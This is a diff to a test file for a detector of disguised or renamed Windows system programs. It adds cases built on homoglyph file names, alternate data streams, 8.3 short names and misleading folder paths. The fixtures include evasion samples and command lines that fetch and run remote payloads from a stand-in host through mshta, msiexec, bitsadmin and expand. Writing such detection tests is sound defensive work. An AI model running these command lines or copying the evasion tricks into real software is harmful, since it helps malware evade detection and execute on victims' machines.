@@ -94,6 +94,8 @@ describe("an impostor", () => {
     ["\u202eexe.athsm", "http://h.example/a.hta", "mshta.exe"],
     ["msiexec.exe.exe", "/i http://h.example/a.msi", "msiexec.exe"],
     ["0dbcconf.exe", "/a {REGSVR D:\\t\\a.dll}", "odbcconf.exe"],
+    ["dotn\u0435t.exe", "D:\\t\\a.dll --anything", "dotnet.exe"],
+    ["\u0435xpand.exe", "\\\\h.example\\x\\a.bat D:\\t\\a.bat /zq:1", "expand.exe"],
   ])("%s hides no behaviour of its twin", (file, rest, twin) => {
     const found = who(windows(`D:\\t\\${file}`, rest));
     expect(found).toMatchObject({ name: twin, renamed: true, by: "behaviour" });
@@ -123,6 +125,29 @@ describe("an impostor", () => {
   });
 });
 
+describe("a file that Windows finds by another spelling", () => {
+  const RUNS = "D:\\t\\a.dll,Run";
+  it.each([
+    ["C:\\Windows\\System32\\rundll32.exe . .", RUNS, "rundll32.exe"],
+    ["C:\\Windows\\System32\\rundll32.exe::$DATA", RUNS, "rundll32.exe"],
+    ["C:rundll32.exe", RUNS, "rundll32.exe"],
+    ["C:\\Users\\Public\\notes.txt:rundll32.exe", RUNS, "rundll32.exe"],
+    ["C:\\Users\\Public\\notes:rundll32.exe", RUNS, "rundll32.exe"],
+    ["C:\\Windows\\System32\\FORFIL~1.EXE", '/c "cmd /c calc"', undefined],
+    ["C:\\Windows\\System32\\BITSAD~1.EXE", "/transfer j http://h.example/a D:\\b", "bitsadmin.exe"],
+    ["D:\\t\\MICROS~1.EXE", "a.xml b.xml", undefined],
+  ])("%s is that file", (file, rest, name) => {
+    const request = { platform: "windows", commandLine: `"${file}" ${rest}` } as const;
+    if (name === undefined) return expect(who(request).entry).toBeUndefined();
+    expect(who(request)).toMatchObject({ name, by: "argv0" });
+    expect(who(windows(file, rest))).toMatchObject({ name, by: "image" });
+  });
+
+  it("starts no program by an address", () => {
+    expect(who({ platform: "windows", commandLine: "ms-settings:reg" }).entry).not.toBe("windows/reg");
+  });
+});
+
 describe("a place", () => {
   it("gives away a program of the system that lies elsewhere", () => {
     expect(who(windows("C:\\Users\\Public\\rundll32.exe", "D:\\t\\a.dll,Run")).text).toContain(
@@ -138,6 +163,20 @@ describe("a place", () => {
     } as const;
     expect(who(environment).text).not.toContain("belongs in");
   });
+
+  it.each(["C:\\Windows\\Temp", "\\\\?\\C:\\Users\\Public", "C:\\Windows\\..\\t"])(
+    "may lie beside the right one: %s",
+    (folder) => {
+      expect(who(windows(`${folder}\\rundll32.exe`, "D:\\t\\a.dll,Run")).text).toContain("belongs in the Windows");
+    },
+  );
+
+  it.each(["\\\\?\\C:\\Windows\\System32", "C:\\Windows\\.\\System32", "C:/Windows/WinSxS/amd64_x"])(
+    "is right: %s",
+    (folder) => {
+      expect(who(windows(`${folder}\\rundll32.exe`, "D:\\t\\a.dll,Run")).text).not.toContain("belongs in");
+    },
+  );
 
   it("is no other for what the store installs", () => {
     const store = "C:\\Program Files\\WindowsApps\\Microsoft.PowerShell_7.4.2.0_x64__8wekyb3d8bbwe\\pwsh.exe";
